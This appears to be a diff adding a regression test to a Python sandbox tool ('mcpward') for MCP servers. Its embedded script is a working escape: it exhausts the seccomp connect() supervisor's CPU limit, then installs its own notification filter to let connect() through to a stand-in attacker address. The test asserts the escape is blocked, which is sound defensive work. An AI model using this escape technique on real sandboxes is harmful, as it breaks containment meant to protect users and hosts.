@@ -318,3 +318,145 @@ def test_a_record_appended_without_the_key_is_not_taken_for_the_gateways(tmp_pat
     assert verified.returncode != 0, (
         "a record forged without the key passed verify: " + verified.stdout.decode()
     )
+
+
+#: Run inside the Landlock sandbox (argv[1]: the address to reach on the proxy's port).
+_UNHOOK = r'''"""Run inside the Landlock sandbox: wear the connect() supervisor out of CPU time (it inherits
+the sandbox's RLIMIT_CPU), then, its listener gone, install a filter of our own whose listener
+lets connect() through (SECCOMP_USER_NOTIF_FLAG_CONTINUE): only Landlock's port rule is left."""
+import ctypes, errno, json, os, socket, sys, threading, time, urllib.parse
+
+target_host = sys.argv[1]
+port = urllib.parse.urlsplit(os.environ["HTTP_PROXY"]).port
+libc = ctypes.CDLL(None, use_errno=True)
+result = {"ok": False}
+
+def probe():
+    s = socket.socket()
+    s.settimeout(2)
+    try:
+        s.connect(("127.0.0.2", 9))
+        return 0
+    except OSError as exc:
+        return exc.errno
+    finally:
+        s.close()
+
+def spam(seconds):
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        s = socket.socket()
+        try:
+            s.connect(("127.0.0.2", 9))
+        except OSError as exc:
+            if exc.errno == errno.ENOSYS:
+                os._exit(7)
+        finally:
+            s.close()
+    os._exit(0)
+
+deadline = time.monotonic() + 60
+gone = False
+while time.monotonic() < deadline and not gone:
+    children = []
+    for _ in range(4):
+        pid = os.fork()
+        if pid == 0:
+            spam(2.0)
+        children.append(pid)
+    for pid in children:
+        os.waitpid(pid, 0)
+    gone = probe() == errno.ENOSYS
+result["supervisor_gone"] = gone
+if gone:
+    class Filter(ctypes.Structure):
+        _fields_ = [("code", ctypes.c_uint16), ("jt", ctypes.c_uint8), ("jf", ctypes.c_uint8), ("k", ctypes.c_uint32)]
+    class Prog(ctypes.Structure):
+        _fields_ = [("len", ctypes.c_uint16), ("filter", ctypes.POINTER(Filter))]
+    program = (Filter * 4)(Filter(0x20, 0, 0, 0), Filter(0x15, 0, 1, 42), Filter(0x06, 0, 0, 0x7FC00000), Filter(0x06, 0, 0, 0x7FFF0000))
+    prog = Prog(4, program)
+    class Notif(ctypes.Structure):
+        _fields_ = [("id", ctypes.c_uint64), ("pid", ctypes.c_uint32), ("flags", ctypes.c_uint32), ("nr", ctypes.c_int32),
+                    ("arch", ctypes.c_uint32), ("ip", ctypes.c_uint64), ("args", ctypes.c_uint64 * 6)]
+    class Resp(ctypes.Structure):
+        _fields_ = [("id", ctypes.c_uint64), ("val", ctypes.c_int64), ("error", ctypes.c_int32), ("flags", ctypes.c_uint32)]
+    holder = {}
+    ready = threading.Event()
+    def handle():
+        ready.wait(10)
+        fd = holder.get("fd", -1)
+        for _ in range(10):
+            n = Notif()
+            if libc.ioctl(fd, 0xC0502100, ctypes.byref(n)) != 0:
+                return
+            libc.ioctl(fd, 0xC0182101, ctypes.byref(Resp(n.id, 0, 0, 1)))
+    handler = threading.Thread(target=handle, daemon=True)
+    handler.start()
+    listener = libc.syscall(317, 1, 8, ctypes.byref(prog))
+    result["listener"] = listener if listener >= 0 else -ctypes.get_errno()
+    holder["fd"] = listener
+    ready.set()
+    print(json.dumps({"port": port}), flush=True)
+    sys.stdin.readline()  # the host listens on that port now
+    if listener >= 0:
+        s = socket.socket()
+        s.settimeout(5)
+        try:
+            s.connect((target_host, port))
+            s.sendall(b"unhooked-escape")
+            result["ok"] = True
+        except OSError as exc:
+            result["error"] = exc.strerror
+print(json.dumps(result), flush=True)
+'''
+
+
+def test_the_connect_supervisor_cannot_be_worn_out_and_replaced(tmp_path: Path) -> None:
+    """Landlock rules the proxy's port on every address; the supervisor of connect() is what
+    keeps the server to the proxy's own address. It was forked after the sandbox's rlimits were
+    set, so it shares RLIMIT_CPU: a server that makes it answer refused connect()s until its
+    CPU time is spent kills it (SIGXCPU), its listener closes, and seccomp then lets the server
+    install a filter with a listener of its own (only one listener per filter chain, and ours
+    is gone) that answers connect() with SECCOMP_USER_NOTIF_FLAG_CONTINUE: the call proceeds
+    with nothing but Landlock's port rule, to the proxy's port on any host (here 127.0.0.2,
+    standing for an attacker's). Shown with a 2 s CPU limit; the default (3,600 s) only takes
+    longer."""
+    import socket
+
+    from mcpward.sandbox._backends.landlock import Landlock
+    from needs import missing
+
+    availability = Landlock().check()
+    if not availability.works:
+        missing("landlock", availability.why)
+    script = tmp_path / "unhook.py"
+    script.write_text(_UNHOOK, encoding="utf-8")
+    profile = tmp_path / "profile.toml"
+    profile.write_text("[limits]\ncpu_seconds = 2\n", encoding="utf-8")
+    command = [*MCPWARD, "sandbox", "run", "--profile", str(profile), "--backend", "landlock",
+               "--audit-log", str(tmp_path / "audit.jsonl"), "--", sys.executable, str(script), "127.0.0.2"]  # fmt: skip
+    received = b""
+    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as running:
+        assert running.stdout is not None and running.stdin is not None
+        try:
+            first = json.loads(running.stdout.readline() or b"{}")
+            if "port" in first:
+                with socket.socket() as listener:
+                    listener.bind(("127.0.0.2", first["port"]))
+                    listener.listen(1)
+                    listener.settimeout(20)
+                    running.stdin.write(b"go\n")
+                    running.stdin.flush()
+                    try:
+                        connection, _ = listener.accept()
+                        with connection:
+                            connection.settimeout(5)
+                            received = connection.recv(100)
+                    except OSError:
+                        pass
+            running.stdin.close()
+            running.wait(timeout=120)
+        finally:
+            if running.poll() is None:
+                running.kill()
+    assert b"unhooked-escape" not in received, "the server reached the proxy's port on another address"
